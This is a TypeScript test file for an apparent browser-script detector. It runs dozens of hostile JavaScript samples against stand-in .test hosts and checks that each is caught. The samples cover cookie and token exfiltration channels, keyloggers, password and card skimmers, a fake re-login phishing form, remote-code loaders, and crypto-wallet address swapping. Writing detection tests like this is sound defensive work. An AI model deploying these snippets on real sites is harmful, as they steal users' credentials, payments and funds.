import { afterAll, describe, expect, it } from "vitest";
import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-support.ts";

const browser = openTestBrowser();
afterAll(() => browser.close());

/** Ways out that need no waiting, all in one script: each to a host of its own. */
const WAYS = {
	fetch: "fetch(at('fetch') + '/' + btoa(c), { mode: 'no-cors' })",
	xhr: "const x = new XMLHttpRequest(); x.open('POST', at('xhr')); x.send(c)",
	header: "fetch(at('header'), { headers: { 'x-note': c } })",
	beacon: "navigator.sendBeacon(at('beacon'), new Blob([c]))",
	image: "new Image().src = at('image') + '/?' + escape(c)",
	style: "document.body.style.background = 'url(' + at('style') + '/' + encodeURIComponent(c) + ')'",
	sheet:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at('sheet') + '/?' + c }))",
	font: "new FontFace('x', 'url(' + at('font') + '/' + encodeURIComponent(c) + ')').load().catch(() => 0)",
	frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: at('frame') + '/?' + c }))",
	prefetch:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at('prefetch') + '/?' + c }))",
	socket:
		"const s = new WebSocket(at('socket').replace('https', 'wss')); s.onopen = () => s.send([...c].reverse().join(''))",
	source: "new EventSource(at('source') + '/?' + c)",
	popup: "window.open(at('popup') + '/?' + c)",
	worker: "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at('worker') + '/?' + c) + ')'])))",
	form: "const f = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: '_blank' }); f.innerHTML = '<input name=n>'; f.firstChild.value = c; document.body.append(f); f.submit()",
	lookup:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'https://' + token.slice(0, 20) + '.lookup.test' }))",
	connection:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://' + token.slice(0, 20) + '.connection.test' }))",
	peer: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:peer.test', username: token, credential: 'x' }] })",
	codes: "fetch(at('codes'), { method: 'POST', mode: 'no-cors', body: [...c].map((s) => s.charCodeAt(0)).join(' ') })",
	pieces: "(async () => { for (const s of token) await fetch(at('pieces') + '/?k=' + s, { mode: 'no-cors' }) })()",
};

const SETUP = `const c = document.cookie, token = localStorage.getItem('token'), at = (name) => 'https://' + name + '.test';`;

describe("a secret that leaves", () => {
	it("is seen on every way out", async () => {
		const body = Object.values(WAYS).map(
			(way) => `try { ${way.replace(/^const (\w) =/, "var $1 =")} } catch (error) { console.log(error) }`,
		);
		const report = await runSample(browser, `${SETUP}\n${body.join("\n")}`);
		const hosts = report.evidence.map(({ host }) => host?.split(".").slice(-2)[0]);
		expect([...new Set(hosts)].toSorted()).toEqual(Object.keys(WAYS).toSorted());
		expect(report.answer).toBe("ran");
	});

	it("is seen when the page itself goes there", async () => {
		const report = await runSample(
			browser,
			"setTimeout(() => location.assign('https://gone.test/?' + document.cookie), 3600e3)",
		);
		expect(seen(report)).toContain("cookie>gone.test");
	});

	it.each([
		[
			"typed text",
			"let b = ''; addEventListener('keydown', (e) => { b += e.key; if (b.length > 30) { new Image().src = 'https://x.test/?' + b; b = '' } }, true)",
			"typed>x.test",
		],
		[
			"a password",
			"document.querySelector('[type=password]').addEventListener('change', (e) => navigator.sendBeacon('https://x.test', e.target.value))",
			"password>x.test",
		],
		[
			"a card number",
			"document.querySelector('#payment-form').addEventListener('submit', (e) => fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: new FormData(e.target) }))",
			"card>x.test",
		],
		[
			"the clipboard",
			"addEventListener('focus', async () => fetch('https://x.test/?' + await navigator.clipboard.readText(), { mode: 'no-cors' }))",
			"clipboard>x.test",
		],
		[
			"the place",
			"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(`https://x.test/?${latitude},${longitude}`))",
			"geolocation>x.test",
		],
		[
			"the page's own requests",
			"const { open } = XMLHttpRequest.prototype; const set = XMLHttpRequest.prototype.setRequestHeader; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { new Image().src = 'https://x.test/?' + v; return set.call(this, n, v) }",
			"token>x.test",
		],
		[
			"the site's database",
			"const r = indexedDB.open('app-data'); r.onsuccess = () => { r.result.transaction('drafts').objectStore('drafts').getAll().onsuccess = (e) => fetch('https://x.test', { method: 'PUT', body: JSON.stringify(e.target.result) }) }",
			"storage>x.test",
		],
		[
			"the microphone",
			"navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { const m = new MediaRecorder(s); m.ondataavailable = (e) => fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: e.data }); m.start(200) })",
			"media>x.test",
		],
		[
			"an answer to any window that asks",
			"addEventListener('message', (e) => { if (e.data.type === 'who?') e.source.postMessage({ c: document.cookie }, '*') })",
			"cookie>widgets.partner-site.test",
		],
		[
			"a password that it asks for itself",
			"setTimeout(() => { document.body.insertAdjacentHTML('beforeend', '<form class=again>Your session has expired. Sign in again <input type=password name=pass><button>Sign in</button></form>'); const f = document.querySelector('.again'); f.onsubmit = (e) => { e.preventDefault(); fetch('https://x.test', { method: 'POST', mode: 'no-cors', body: f.pass.value }) } }, 90e3)",
			"password>x.test",
		],
	])("is seen: %s", async (_name, body, evidence) => {
		expect(seen(await runSample(browser, body, ["@match *://*/*", "@run-at document-end"]))).toContain(evidence);
	});

	it("is seen through the manager's functions, a day later, on another visit", async () => {
		const body = `GM_setValue('seen', (GM_getValue('seen', '')) + document.cookie);
			if (Date.now() - GM_getValue('last', 0) > 864e5) { if (GM_getValue('last')) GM_xmlhttpRequest({ method: 'POST', url: 'https://x.test/day', data: GM_getValue('seen') }); GM_setValue('last', Date.now()); }`;
		const lines = ["@match https://*/*", "@grant GM_xmlhttpRequest", "@connect x.test"];
		expect(seen(await runSample(browser, body, lines))).toEqual(["cookie>x.test"]);
	});

	it("is seen when a bookmarklet sends it", async () => {
		const report = await runBookmarklet(
			browser,
			"javascript:void(new Image().src='https://x.test/?'+document.querySelector('#password').value)",
		);
		expect(seen(report)).toEqual(["password>x.test"]);
	});
});

describe("other people's code", () => {
	it.each([
		[
			"a script element",
			"document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.test/a.js' }))",
		],
		["import()", "import('https://x.test/a.mjs')"],
		["eval of an answer", "fetch('https://x.test/a').then((r) => r.text()).then((t) => (0, eval)(t))"],
		[
			"a function from JSON",
			"fetch('https://x.test/a').then((r) => r.json()).then(({ rules: { run } }) => new Function(run)())",
		],
		["a worker", "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://x.test/a.js')\"])))"],
		[
			"an attribute",
			"fetch('https://x.test/a.txt').then((r) => r.text()).then((t) => { const b = document.createElement('button'); b.setAttribute('onclick', t); document.body.append(b) })",
		],
		[
			"what was kept from the last visit",
			"if (localStorage.kept) Function(localStorage.kept)(); fetch('https://x.test/a.txt').then((r) => r.text()).then((t) => { localStorage.kept = t })",
		],
	])("is seen when it runs: %s", async (_name, body) => {
		expect(seen(await runSample(browser, body))).toEqual(["remote-code>x.test"]);
	});
});

describe("a wallet", () => {
	it.each([
		[
			"the recipient of a payment",
			"const p = window.ethereum, r = p.request.bind(p); p.request = (c) => { if (c.method === 'eth_sendTransaction') c.params[0].to = '0x' + 'ab'.repeat(20); return r(c) }",
			"wallet-swap>",
		],
		[
			"what is copied",
			"addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).replace(/0x[0-9a-f]{40}/i, '0x' + 'ab'.repeat(20))); e.preventDefault() })",
			"wallet-swap>",
		],
		[
			"the address on the page",
			"for (const e of document.querySelectorAll('#wallet span')) e.textContent = e.textContent.replace(/\\b1\\w{30,}/, '1F7mXk2QpVz9LrTd4Yb8NcWs6GhJa3UeRt')",
			"wallet-swap>",
		],
		[
			"a transaction of its own",
			"window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x' + 'ab'.repeat(20), data: '0x095ea7b3' }] })",
			"wallet-transaction>",
		],
	])("is watched: %s", async (_name, body, evidence) => {
		expect(seen(await runSample(browser, body))).toEqual([evidence]);
	});
});
